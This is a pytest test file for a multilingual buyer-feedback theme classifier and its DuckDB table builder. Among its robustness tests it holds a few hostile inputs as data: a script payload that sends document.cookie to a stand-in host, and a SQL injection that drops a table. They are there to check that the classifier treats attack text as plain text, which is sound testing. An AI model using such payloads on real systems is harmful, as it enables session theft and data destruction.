"""Tests for sellerdx.themes: multilingual feedback themes and removability flags."""

from __future__ import annotations

import tomllib
from pathlib import Path

import duckdb
import pytest

from sellerdx import themes
from sellerdx.assets import load_toml
from sellerdx.themes import THEMES, classify, classify_many, theme_table

# (language, comment, themes that must be found). Each expectation is written by hand from the comment.
POSITIVE = [
    # --- English
    ("en", "Arrived shattered, glass everywhere", {"damaged"}),
    ("en", "The box was crushed and the lamp is broken", {"damaged"}),
    ("en", "Bottle leaked all over the package", {"damaged"}),
    ("en", "Arrived 5 days late", {"late_delivery"}),
    ("en", "Never arrived", {"late_delivery"}),
    ("en", "I have not received my order yet", {"late_delivery"}),
    ("en", "Delayed twice, still waiting", {"late_delivery"}),
    ("en", "Took 3 weeks to arrive", {"late_delivery"}),
    ("en", "Item not as described", {"not_as_described"}),
    ("en", "Colour is different from the picture", {"not_as_described"}),
    ("en", "Does not match the description at all", {"not_as_described"}),
    ("en", "Sent the wrong size", {"wrong_item"}),
    ("en", "They sent me a completely wrong item", {"wrong_item"}),
    ("en", "Poor quality, stopped working after two days", {"quality"}),
    ("en", "Defective unit", {"quality"}),
    ("en", "Seller never responded to my messages", {"customer_service"}),
    ("en", "Terrible customer service and no refund", {"customer_service"}),
    ("en", "Fake! Not genuine Apple", {"authenticity"}),
    ("en", "Counterfeit product", {"authenticity"}),
    ("en", "Box had been opened and the item was clearly used", {"condition"}),
    ("en", "Scratched screen, sold as new", {"condition"}),
    ("en", "Expired two months ago", {"expired"}),
    ("en", "The coffee was stale and out of date", {"expired"}),
    # --- German
    ("de", "Ware kam zerbrochen an", {"damaged"}),
    ("de", "Paket war beschädigt", {"damaged"}),
    ("de", "Der Karton war beschaedigt", {"damaged"}),
    ("de", "Lieferung kam 2 Wochen zu spät", {"late_delivery"}),
    ("de", "Artikel nie angekommen", {"late_delivery"}),
    ("de", "Nicht wie beschrieben", {"not_as_described"}),
    ("de", "Entspricht nicht der Beschreibung", {"not_as_described"}),
    ("de", "Falsche Größe geliefert", {"wrong_item"}),
    ("de", "Falscher Artikel", {"wrong_item"}),
    ("de", "Schlechte Qualität, funktioniert nicht", {"quality"}),
    ("de", "Nach zwei Tagen kaputt", {"quality"}),
    ("de", "Verkäufer reagiert nicht, keine Antwort", {"customer_service"}),
    ("de", "Fälschung, kein Original", {"authenticity"}),
    ("de", "Gebrauchte Ware mit Kratzern", {"condition"}),
    ("de", "Bereits geöffnet und benutzt worden", {"condition"}),
    ("de", "MHD abgelaufen", {"expired"}),
    # --- French
    ("fr", "Colis arrivé abîmé", {"damaged"}),
    ("fr", "Le vase est cassé", {"damaged"}),
    ("fr", "Livraison en retard de dix jours", {"late_delivery"}),
    ("fr", "Je n'ai jamais reçu le colis", {"late_delivery"}),
    ("fr", "Produit pas conforme à la description", {"not_as_described"}),
    ("fr", "Mauvaise taille envoyée", {"wrong_item"}),
    ("fr", "Mauvaise qualité, ne fonctionne pas", {"quality"}),
    ("fr", "Aucune réponse du vendeur", {"customer_service"}),
    ("fr", "C'est une contrefaçon", {"authenticity"}),
    ("fr", "Article d'occasion, boîte ouverte", {"condition"}),
    ("fr", "Produit périmé", {"expired"}),
    # --- Italian
    ("it", "Arrivato in ritardo", {"late_delivery"}),
    ("it", "Pacco mai arrivato", {"late_delivery"}),
    ("it", "Prodotto arrivato rotto", {"damaged"}),
    ("it", "Scatola danneggiata", {"damaged"}),
    ("it", "Non corrisponde alla descrizione", {"not_as_described"}),
    ("it", "Taglia sbagliata", {"wrong_item"}),
    ("it", "Qualità scadente, non funziona", {"quality"}),
    ("it", "Venditore non risponde", {"customer_service"}),
    ("it", "Prodotto contraffatto", {"authenticity"}),
    ("it", "Confezione aperta e graffiata", {"condition"}),
    ("it", "Prodotto scaduto", {"expired"}),
    # --- Spanish
    ("es", "Llegó tarde", {"late_delivery"}),
    ("es", "El paquete nunca llegó", {"late_delivery"}),
    ("es", "Llegó roto", {"damaged"}),
    ("es", "Producto dañado", {"damaged"}),
    ("es", "No corresponde con la descripción", {"not_as_described"}),
    ("es", "Me enviaron otro producto, talla equivocada", {"wrong_item"}),
    ("es", "Mala calidad, dejó de funcionar", {"quality"}),
    ("es", "El vendedor no responde", {"customer_service"}),
    ("es", "Es falso, una imitación", {"authenticity"}),
    ("es", "Producto usado, caja abierta", {"condition"}),
    ("es", "Comida caducada", {"expired"}),
    # --- Japanese (full-width and half-width forms are normalised)
    ("ja", "商品が割れて届きました", {"damaged"}),
    ("ja", "箱が潰れていた", {"damaged"}),
    ("ja", "配送が遅い", {"late_delivery"}),
    ("ja", "まだ届いていません", {"late_delivery"}),
    ("ja", "商品説明と違う", {"not_as_described"}),
    ("ja", "注文したものと違う商品が届いた", {"wrong_item"}),
    ("ja", "初期不良で動かない", {"quality"}),
    ("ja", "出品者の対応が悪い", {"customer_service"}),
    ("ja", "偽物でした", {"authenticity"}),
    ("ja", "中古品のような傷があった", {"condition"}),
    ("ja", "賞味期限切れ", {"expired"}),
    ("ja", "ｷｽﾞがありました", {"condition"}),
    # --- Chinese, simplified
    ("zh", "收到的时候已经坏了", {"damaged"}),
    ("zh", "包装破损", {"damaged"}),
    ("zh", "物流太慢了", {"late_delivery"}),
    ("zh", "一个月了还没收到", {"late_delivery"}),
    ("zh", "实物与图片不符", {"not_as_described"}),
    ("zh", "发错货了", {"wrong_item"}),
    ("zh", "质量很差", {"quality"}),
    ("zh", "客服态度差，不回复", {"customer_service"}),
    ("zh", "是假货", {"authenticity"}),
    ("zh", "有划痕，像二手的", {"condition"}),
    ("zh", "已经过期了", {"expired"}),
    # --- Chinese, traditional
    ("zh-Hant", "收到的時候已經壞了", {"damaged"}),
    ("zh-Hant", "與描述不符", {"not_as_described"}),
    ("zh-Hant", "發錯貨", {"wrong_item"}),
    ("zh-Hant", "質量很差", {"quality"}),
    ("zh-Hant", "假貨", {"authenticity"}),
    ("zh-Hant", "已經過期", {"expired"}),
    # --- Vietnamese (with and without diacritics)
    ("vi", "Giao hàng chậm", {"late_delivery"}),
    ("vi", "Hàng bị vỡ", {"damaged"}),
    ("vi", "hang bi vo", {"damaged"}),
    ("vi", "Không giống mô tả", {"not_as_described"}),
    ("vi", "Giao sai màu", {"wrong_item"}),
    ("vi", "Chất lượng kém", {"quality"}),
    ("vi", "Shop không trả lời", {"customer_service"}),
    ("vi", "Hàng giả", {"authenticity"}),
    ("vi", "Hàng đã qua sử dụng", {"condition"}),
    ("vi", "Sản phẩm hết hạn", {"expired"}),
]


@pytest.mark.parametrize(("lang", "comment", "expected"), POSITIVE, ids=[f"{p[0]}:{p[1]}" for p in POSITIVE])
def test_theme_found(lang: str, comment: str, expected: set[str]) -> None:
    found = classify(comment) & set(THEMES)
    assert found == expected


NO_THEME = [
    "Arrived on time, great seller",
    "chocolate plate",
    "Perfect, thanks! A+++",
    "Not damaged at all, well packed",
    "The parcel was not late",
    "Never late, always reliable",
    "Ware nicht beschädigt, pünktlich geliefert",
    "Pas en retard, très bien emballé",
    "Non è arrivato in ritardo",
    "No llegó tarde, todo perfecto",
    "Llegó por la tarde, perfecto",
    "破損もなく、時間通りに届きました",
    "壊れていない、ありがとう",
    "完好无损，准时到达",
    "没有坏，很好",
    "I used it every day and love it",
    "Stainless steel, great",
    "<script>alert('x')</script>",
    "👍👍👍 😀",
    "",
    "   ",
]


@pytest.mark.parametrize("comment", NO_THEME)
def test_no_theme(comment: str) -> None:
    assert classify(comment) & set(THEMES) == frozenset()


def test_none_and_empty_give_empty_set() -> None:
    assert classify(None) == frozenset()
    assert classify("") == frozenset()
    assert classify_many([None, "", "late"]) == [frozenset(), frozenset(), frozenset({"late_delivery"})]


def test_word_start_boundaries() -> None:
    assert classify("late") == {"late_delivery"}
    assert classify("chocolate") == frozenset()
    assert classify("plate") == frozenset()
    assert classify("lately I love it") == frozenset()       # "late" is a whole word, not a stem
    assert "damaged" in classify("damages everywhere")       # "damag*" is a stem


def test_mixed_themes() -> None:
    assert classify("Arrived late and the box was crushed") == {"late_delivery", "damaged"}
    assert classify("Not only late but also damaged") == {"late_delivery", "damaged"}
    assert classify("Fake and expired, seller never replied") == {"authenticity", "expired", "customer_service"}
    assert classify("Llegó tarde y roto") == {"late_delivery", "damaged"}
    assert classify("配送が遅い上に箱が潰れていた") == {"late_delivery", "damaged"}


def test_negation_is_clause_local() -> None:
    # "not" negates "late" only; after "but" a new clause starts.
    assert classify("Not late, but broken") == {"damaged"}
    assert classify("No damage; delivery was delayed") == {"late_delivery"}


@pytest.mark.parametrize(("comment", "expected"), [
    ("Came with no instructions and broken", {"damaged"}),      # "and" ends the negation's reach
    ("Non è rotto", set()),                                    # Italian "è" is not "and"
    ("不仅迟到而且坏了", {"late_delivery", "damaged"}),           # "not only ... but also"
    ("カスタマーサービスが最悪", {"customer_service"}),           # "カス" inside a word is not obscene
    ("Sorry for the late review, works great", set()),
    ("レビューが遅くなりましたが、良い商品です", set()),
    ("Bought it for a special occasion", set()),               # French "d'occasion" only
    ("Copie de la facture manquante", set()),                  # a copy of the invoice is not a fake
    ("Item arrived damaged, seller refused to refund", {"damaged", "customer_service"}),
    ("Did not arrive on time", {"late_delivery"}),
])
def test_regressions(comment: str, expected: set[str]) -> None:
    assert classify(comment) & set(THEMES) == expected
    assert "obscene" not in classify(comment)


def test_normalisation_full_width_and_accents() -> None:
    assert classify("ＬＡＴＥ") == {"late_delivery"}
    assert classify("DAÑADO") == {"damaged"}
    assert classify("danado") == {"damaged"}
    assert classify("beschädigt") == classify("beschaedigt") == classify("beschadigt") == {"damaged"}
    assert themes.normalise("Ｆｕｌｌ　Ｗｉｄｔｈ  Straße") == "full width strasse"


def test_hostile_text_is_just_text() -> None:
    assert classify("<script>document.location='http://x/?c='+document.cookie</script> arrived broken") == {
        "damaged"}
    assert classify("'; DROP TABLE feedback; --") == frozenset()
    assert classify("x" * 100_000) == frozenset()


def test_personal_data_flag() -> None:
    assert "personal_data" in classify("Call me on +49 151 12345678 about the refund")
    assert "personal_data" in classify("Write to john.doe@example.com")
    assert "personal_data" in classify("電話 03-1234-5678 まで")
    assert "personal_data" in classify("My number is (555) 123-4567")
    # An Amazon order id is not a phone number, a date is not either.
    assert "personal_data" not in classify("Order 028-1234567-1234567 arrived late")
    assert "personal_data" not in classify("Delivered on 03.02.2024")


def test_obscene_flag() -> None:
    assert "obscene" in classify("This seller is a fucking joke")
    assert "obscene" in classify("Scheiß Verkäufer")
    assert "obscene" in classify("Quelle merde")
    assert "obscene" in classify("垃圾卖家 傻逼")
    assert "obscene" not in classify("Shitake mushrooms were great")   # "shit" is a whole word
    assert "obscene" not in classify("Scunthorpe delivery was fine")


def test_product_review_flag() -> None:
    assert classify("Terrible product, stopped working after a week") == {"quality", "product_review"}
    assert classify("Zu klein, passt nicht") == {"product_review"}
    assert classify("味がまずい") == {"product_review"}
    # Mentions the seller's service, so it is not purely a product review.
    assert "product_review" not in classify("Product stopped working and the seller never replied")
    assert "product_review" not in classify("Poor quality and shipping took forever")
    assert "product_review" not in classify("Arrived broken")


def test_themes_constant_is_stable() -> None:
    assert THEMES == ("not_as_described", "damaged", "late_delivery", "wrong_item", "quality",
                      "customer_service", "authenticity", "condition", "expired")
    assert themes.FLAGS == ("product_review", "obscene", "personal_data")


def test_every_theme_has_entries_in_every_required_language() -> None:
    data = load_toml("lexicon.toml")
    required = data["meta"]["required_languages"]
    for lang in ("en", "de", "fr", "it", "es", "ja", "zh", "vi"):
        assert lang in required
    assert tuple(data["meta"]["themes"]) == THEMES
    for theme in THEMES:
        keywords = data["themes"][theme]["keywords"]
        for lang in required:
            entries = keywords.get(lang, [])
            assert len(entries) >= 3, f"theme {theme!r} has fewer than 3 entries in {lang!r}"
            assert all(isinstance(e, str) and e.strip() for e in entries)


def test_every_lexicon_entry_matches_itself() -> None:
    """A keyword that cannot match its own text is dead (bad normalisation, a typo in a stem)."""
    data = load_toml("lexicon.toml")
    for theme in THEMES:
        for lang, entries in data["themes"][theme]["keywords"].items():
            for entry in entries:
                text = entry.rstrip("*")
                assert theme in classify(text), f"{lang} entry {entry!r} of {theme!r} does not match itself"


def test_theme_table() -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE feedback (order_id VARCHAR, comments VARCHAR, rating INTEGER)")
    con.executemany("INSERT INTO feedback VALUES (?, ?, ?)", [
        ("111-0000001-0000001", "Arrived late and damaged", 1),
        ("111-0000001-0000002", "Great, arrived on time", 5),
        ("111-0000001-0000003", None, 2),
        ("111-0000001-0000004", "偽物でした", 1),
        ("111-0000001-0000005", "Arrived late and damaged", 2),     # same text, another order
        ("111-0000001-0000004", "偽物でした", 1),                    # duplicate row: one output row
    ])
    theme_table(con)
    rows = con.execute("SELECT order_id, theme FROM feedback_themes ORDER BY order_id, theme").fetchall()
    assert rows == [
        ("111-0000001-0000001", "damaged"),
        ("111-0000001-0000001", "late_delivery"),
        ("111-0000001-0000004", "authenticity"),
        ("111-0000001-0000005", "damaged"),
        ("111-0000001-0000005", "late_delivery"),
    ]
    types = con.execute("SELECT column_name, data_type FROM information_schema.columns "
                        "WHERE table_name = 'feedback_themes' ORDER BY ordinal_position").fetchall()
    assert types == [("order_id", "VARCHAR"), ("theme", "VARCHAR")]
    # Re-running replaces the table.
    con.execute("DELETE FROM feedback WHERE order_id <> '111-0000001-0000002'")
    theme_table(con)
    assert con.execute("SELECT count(*) FROM feedback_themes").fetchone() == (0,)


def test_theme_table_other_table_name() -> None:
    con = duckdb.connect()
    con.execute('CREATE TABLE "my fb" (order_id VARCHAR, comments VARCHAR)')
    con.execute("""INSERT INTO "my fb" VALUES ('A', 'Llegó roto')""")
    theme_table(con, "my fb")
    assert con.execute("SELECT * FROM feedback_themes").fetchall() == [("A", "damaged")]


def test_classify_many_parallel_matches_serial() -> None:
    comments = ["Arrived late and damaged", None, "偽物でした", "", "Perfect", "Call +49 151 12345678"] * 50
    serial = classify_many(comments, workers=1)
    assert classify_many(comments, workers=2) == serial
    assert serial[0] == {"late_delivery", "damaged"}
    assert serial[2] == {"authenticity"}
    assert serial[5] == {"personal_data"}


# ------------------------------------------------------------------------------------------------------
# Recall and precision on hand-labelled buyer comments (tests/data/themes_labelled/<lang>.toml): every
# language, every theme, everyday and inflected phrasings, mixed and theme-less comments. `comments` is
# the set the lexicon was tuned on; `heldout` was written afterwards and never tuned on (docs/themes.md).
LABELLED = Path(__file__).parent / "data" / "themes_labelled"
LANGUAGES = ("en", "de", "fr", "it", "es", "ja", "zh", "vi")


def labelled(lang: str, key: str = "comments") -> list[dict]:
    return tomllib.loads((LABELLED / f"{lang}.toml").read_text(encoding="utf-8")).get(key, [])


def confusion(items: list[dict], theme: str | None = None) -> tuple[int, int, int, list[str]]:
    """(true positives, false positives, false negatives, the comments that went wrong) over
    (comment, theme) pairs, for one theme or all of them."""
    tp = fp = fn = 0
    wrong = []
    for item in items:
        expected = set(item["themes"])
        found = set(classify(item["text"])) & set(THEMES)
        if theme is not None:
            expected, found = expected & {theme}, found & {theme}
        tp += len(expected & found)
        fp += len(found - expected)
        fn += len(expected - found)
        if expected != found:
            wrong.append(f"{item['text']!r}: labelled {sorted(expected)}, found {sorted(found)}")
    return tp, fp, fn, wrong


def test_labelled_sets_cover_every_language_and_theme() -> None:
    assert {p.stem for p in LABELLED.glob("*.toml")} == set(LANGUAGES)
    assert set(LANGUAGES) <= set(load_toml("lexicon.toml")["meta"]["languages"])
    for lang in LANGUAGES:
        items = labelled(lang)
        assert len(items) >= 40, lang
        counts = {theme: sum(theme in i["themes"] for i in items) for theme in THEMES}
        assert min(counts.values()) >= 3, (lang, counts)
        assert sum(not i["themes"] for i in items) >= 5, lang          # comments with no theme
        assert sum(len(i["themes"]) > 1 for i in items) >= 2, lang     # comments with two themes
        for item in items + labelled(lang, "heldout"):
            assert item["text"].strip() and set(item["themes"]) <= set(THEMES), item
        texts = [i["text"] for i in items]
        assert len(texts) == len(set(texts)), lang


@pytest.mark.parametrize("lang", LANGUAGES)
def test_labelled_recall_and_precision_per_language(lang: str) -> None:
    tp, fp, fn, wrong = confusion(labelled(lang))
    recall, precision = tp / (tp + fn), tp / (tp + fp)
    assert recall >= 0.95 and precision >= 0.95, "\n".join([f"recall {recall:.2f} precision {precision:.2f}"] + wrong)


@pytest.mark.parametrize("theme", THEMES)
def test_labelled_recall_and_precision_per_theme(theme: str) -> None:
    items = [i for lang in LANGUAGES for i in labelled(lang)]
    tp, fp, fn, wrong = confusion(items, theme)
    recall, precision = tp / (tp + fn), tp / (tp + fp)
    assert recall >= 0.95 and precision >= 0.95, "\n".join([f"recall {recall:.2f} precision {precision:.2f}"] + wrong)


# Measured on the held-out comments with the current lexicon (docs/themes.md): themes found and false themes.
HELDOUT_FOUND_AT_LEAST = 45
HELDOUT_FALSE_AT_MOST = 4


def test_heldout_comments_do_not_get_worse() -> None:
    """The held-out comments measure generalisation (docs/themes.md): a lexicon change may raise these
    counts, never lower them (update docs/themes.md and the floor when they rise)."""
    tp = fp = fn = 0
    for lang in LANGUAGES:
        a, b, c, _ = confusion(labelled(lang, "heldout"))
        tp, fp, fn = tp + a, fp + b, fn + c
    assert tp >= HELDOUT_FOUND_AT_LEAST
    assert fp <= HELDOUT_FALSE_AT_MOST
